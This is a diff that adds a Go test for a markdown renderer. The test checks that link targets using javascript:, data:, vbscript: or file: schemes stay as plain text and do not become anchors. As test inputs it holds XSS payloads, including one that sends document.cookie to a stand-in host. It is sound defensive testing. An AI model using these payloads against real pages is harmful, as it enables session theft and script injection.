@@ -253,3 +253,37 @@ func TestInlineMarkdown(t *testing.T) {
 		t.Errorf("splitRow = %q", got)
 	}
 }
+
+// A link's target may come from a host's facts or a results file made
+// elsewhere: only http(s) and relative targets become links; any other
+// scheme stays literal text.
+func TestInlineLinksOnlyHTTPAndRelative(t *testing.T) {
+	for in, want := range map[string]string{
+		"[r](bench-report.html)":           `<a href="bench-report.html">r</a>`,
+		"[r](charts/a.svg#x)":              `<a href="charts/a.svg#x">r</a>`,
+		"[r](https://example.org/a?b=1&c)": `<a href="https://example.org/a?b=1&amp;c">r</a>`,
+		"[r](HTTP://example.org)":          `<a href="HTTP://example.org">r</a>`,
+		"[r](javascript:alert(1))":         "[r](javascript:alert(1))",
+		"[r](JavaScript:alert(1))":         "[r](JavaScript:alert(1))",
+		"[r](data:text/html;base64,PHM+)":  "[r](data:text/html;base64,PHM+)",
+		"[r](vbscript:msgbox)":             "[r](vbscript:msgbox)",
+		"[r](file:///etc/passwd)":          "[r](file:///etc/passwd)",
+		"[r](\x01javascript:alert(1))":     "[r](\x01javascript:alert(1))",
+		"[r](javascript&#58;alert(1))":     `<a href="javascript&amp;#58;alert(1">r</a>)`,
+		"[a](x.html) [b](javascript:y)":    `<a href="x.html">a</a> [b](javascript:y)`,
+	} {
+		if got := inline(in); got != want {
+			t.Errorf("inline(%q) = %q, want %q", in, got, want)
+		}
+	}
+	d := twnsbenchDoc()
+	d.Env.CPUModel = "[fast CPU](javascript:fetch('//x/'+document.cookie))"
+	d.Env.Fallbacks = append(d.Env.Fallbacks, "[see](javascript:alert(1))")
+	page := strings.ToLower(string(HTML(d)))
+	if strings.Contains(page, `href="javascript`) {
+		t.Error("the page links to a javascript: target from the document")
+	}
+	if !strings.Contains(page, "[fast cpu](javascript:fetch(") {
+		t.Error("the refused link is not shown as text")
+	}
+}
